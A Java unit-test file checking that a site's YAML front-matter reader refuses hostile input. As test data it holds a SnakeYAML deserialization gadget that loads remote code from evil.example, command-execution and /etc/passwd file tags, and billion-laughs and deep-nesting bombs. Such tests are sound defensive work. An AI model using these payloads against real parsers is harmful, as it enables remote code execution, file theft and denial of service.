package org.relationstimeline.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.relationstimeline.countries.CountryRegistry;
import org.relationstimeline.problems.Problem;
import org.relationstimeline.testing.CpuBudget;

/**
 * Hostile YAML in front matter: class tags, alias bombs, deep nesting and oversized input are
 * refused quickly, with an error at the right line, and nothing is ever constructed from a tag.
 */
class YamlSafetyTest {
    /** Generous, in CPU time: each of these is refused in milliseconds; a real bomb would take minutes or exhaust memory. */
    private static final Duration QUICKLY = Duration.ofSeconds(1);

    private final EntryReader reader = new EntryReader(CountryRegistry.loadDefault(), Map.of(), YamlLimits.DEFAULT);

    private static String entry(String extraFrontMatter) {
        return "---\ntitle: Talks\ndate: 2023-08-01\ncountries: [RU, DZ]\n" + extraFrontMatter + "\n---\nBody.\n";
    }

    private List<Problem> errors(String text) {
        return errors(reader, text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<Problem> errors(EntryReader reader, byte[] bytes) {
        EntryReader.Result result = reader.read(new SourceFile("content/x.md", "x.md", bytes));
        assertThat(result.entry()).as("no entry comes out of a refused file").isEmpty();
        return result.problems().stream().filter(Problem::isError).toList();
    }

    @Test
    void scriptEngineManagerGadgetIsRefusedAtItsLine() {
        List<Problem> errors = errors(
                entry(
                        "summary: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]"));
        assertThat(errors).hasSize(1);
        Problem p = errors.get(0);
        assertThat(p.line()).as("the summary line of the file").isEqualTo(5);
        assertThat(p.message()).contains("'!!javax.script.ScriptEngineManager'").contains("not allowed");
        assertThat(p.format()).startsWith("content/x.md:5:");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "summary: !!java.io.File /etc/passwd",
                "summary: !!python/object/apply:os.system [\"id\"]",
                "summary: !<tag:yaml.org,2002:java.lang.ProcessBuilder> [id]",
                "summary: !local value",
                "summary: !!binary aGVsbG8=",
                "summary: !!set {a, b}",
                "summary: !!omap [a: 1]",
                "summary: !!org.relationstimeline.timeline.Entry {title: x}",
                "sources:\n  - !!java.net.URL [\"https://example.org/\"]",
                "!!java.io.File summary: key with a class tag",
                "!local summary: key with a local tag",
            })
    void anyNonStandardTagIsRefused(String yaml) {
        List<Problem> errors = errors(entry(yaml));
        assertThat(errors).hasSize(1);
        assertThat(errors.get(0).message()).contains("tag").contains("not allowed");
        assertThat(errors.get(0).line()).isBetween(5, 6);
    }

    @Test
    void nestedClassTagIsRefusedEvenInsideAStandardList() {
        List<Problem> errors = errors(entry("topics:\n  - trade\n  - !!java.lang.Runtime x"));
        assertThat(errors).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(7);
            assertThat(p.message()).contains("'!!java.lang.Runtime'");
        });
    }

    @Test
    void standardTagsWrittenOutAreAccepted() {
        EntryReader.Result result = reader.read(new SourceFile(
                "content/x.md", "x.md", entry("summary: !!str 1962").getBytes(StandardCharsets.UTF_8)));
        assertThat(result.entry()).get().extracting(e -> e.summary()).isEqualTo("1962");
    }

    @Test
    void billionLaughsIsRefusedQuickly() {
        StringBuilder yaml = new StringBuilder(
                "lol0: &a0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n");
        for (int level = 1; level <= 9; level++) {
            yaml.append("lol").append(level).append(": &a").append(level).append(" [");
            for (int i = 0; i < 9; i++)
                yaml.append(i == 0 ? "" : ", ").append("*a").append(level - 1);
            yaml.append("]\n");
        }
        List<Problem> errors =
                CpuBudget.within(QUICKLY, () -> errors(entry(yaml.toString().strip())));
        assertThat(errors).singleElement().satisfies(p -> {
            assertThat(p.message()).contains("more than 20 aliases");
            assertThat(p.line())
                    .as("the first level that aliases past the limit")
                    .isEqualTo(8);
        });
    }

    @Test
    void aliasFanOutUnderTheAliasLimitIsStoppedByTheValueCount() {
        // Few aliases (within SnakeYAML's alias limit), each to a large list: the expansion is
        // counted as values while walking, so it stops at the value limit instead of growing.
        String big = "big: &big [" + "x, ".repeat(999) + "x]\n";
        String fan = "fan: [" + "*big, ".repeat(18) + "*big]";
        List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(entry(big + fan)));
        assertThat(errors).singleElement().satisfies(p -> {
            assertThat(p.message()).contains("more than " + YamlLimits.DEFAULT.maxValues() + " values");
            // An alias is the very node it names, so the error may point at the anchored list.
            assertThat(p.line()).isBetween(5, 6);
        });
    }

    @Test
    void selfReferencingAliasIsRefused() {
        List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(entry("loop: &loop [*loop]")));
        assertThat(errors).singleElement().satisfies(p -> assertThat(p.line()).isEqualTo(5));
    }

    @ParameterizedTest
    @ValueSource(ints = {25, 1_000, 30_000})
    void deepFlowNestingIsRefusedQuickly(int depth) {
        String yaml = "deep: " + "[".repeat(depth) + "]".repeat(depth);
        List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(entry(yaml)));
        assertThat(errors).singleElement().satisfies(p -> {
            assertThat(p.message()).containsIgnoringCase("nest");
            assertThat(p.line()).isEqualTo(5);
        });
    }

    @Test
    void deepBlockNestingIsRefused() {
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < 40; i++)
            yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
        yaml.append("  ".repeat(40)).append("leaf");
        List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(entry(yaml.toString())));
        assertThat(errors)
                .singleElement()
                .satisfies(p -> assertThat(p.message()).containsIgnoringCase("nest"));
    }

    @Test
    void nestingJustUnderTheLimitIsAccepted() {
        // Twenty levels are plenty for any real entry and must still load (as an unknown key).
        String yaml = "deep: " + "[".repeat(YamlLimits.DEFAULT.maxDepth() - 1)
                + "]".repeat(YamlLimits.DEFAULT.maxDepth() - 1);
        EntryReader.Result result =
                reader.read(new SourceFile("content/x.md", "x.md", entry(yaml).getBytes(StandardCharsets.UTF_8)));
        assertThat(result.entry()).isPresent();
    }

    @Test
    void oversizedFileIsRefusedWithTheConfiguredLimit() {
        EntryReader small =
                new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(2_000, 1_000, 20, 20, 10_000));
        byte[] bytes = (entry("summary: short") + "x".repeat(3_000)).getBytes(StandardCharsets.UTF_8);
        List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(small, bytes));
        assertThat(errors).singleElement().satisfies(p -> {
            assertThat(p.message()).contains(bytes.length + " bytes").contains("limit of 2000");
            assertThat(p.hint()).contains("max_file_bytes");
        });
    }

    @Test
    void oversizedFrontMatterIsRefusedWithTheConfiguredLimit() {
        EntryReader small =
                new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(100_000, 500, 20, 20, 10_000));
        List<Problem> errors =
                errors(small, entry("summary: " + "x".repeat(600)).getBytes(StandardCharsets.UTF_8));
        assertThat(errors).singleElement().satisfies(p -> {
            assertThat(p.message()).contains("front matter").contains("limit of 500 bytes");
            assertThat(p.line()).isEqualTo(2);
        });
    }

    @Test
    void frontMatterLimitCountsBytesNotCharacters() {
        // 300 Cyrillic letters are 600 bytes of UTF-8: over a 500-byte limit though only 300 characters.
        EntryReader small =
                new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(100_000, 500, 20, 20, 10_000));
        List<Problem> errors =
                errors(small, entry("summary: " + "д".repeat(300)).getBytes(StandardCharsets.UTF_8));
        assertThat(errors)
                .singleElement()
                .satisfies(p -> assertThat(p.message()).contains("limit of 500 bytes"));
    }

    @Test
    void hugeFrontMatterWithinTheFileLimitIsRefusedQuickly() {
        // A megabyte of front matter: refused from its length, before SnakeYAML reads it.
        String yaml = "summary: \"" + "a".repeat(YamlLimits.DEFAULT.maxFileBytes() - 200) + "\"";
        List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(entry(yaml)));
        assertThat(errors)
                .singleElement()
                .satisfies(p -> assertThat(p.message()).contains("front matter is longer"));
    }

    @Test
    void loaderRefusesTagsDirectlyToo() {
        YamlLoader loader = new YamlLoader(YamlLimits.DEFAULT);
        assertThatThrownBy(() -> loader.load("a: 1\nb: !!java.util.HashMap {}\n", 10))
                .isInstanceOf(YamlLoader.YamlException.class)
                .satisfies(e -> assertThat(
                                ((YamlLoader.YamlException) e).position().line())
                        .isEqualTo(11));
    }

    @Test
    void mergeKeyIsAnOrdinaryUnknownKeyNotAMerge() {
        EntryReader.Result result = reader.read(new SourceFile(
                "content/x.md",
                "x.md",
                entry("base: &b {summary: merged}\n<<: *b").getBytes(StandardCharsets.UTF_8)));
        assertThat(result.entry()).get().extracting(e -> e.summary()).isEqualTo("");
        assertThat(result.problems()).anySatisfy(p -> assertThat(p.message()).contains("'<<'"));
    }
}
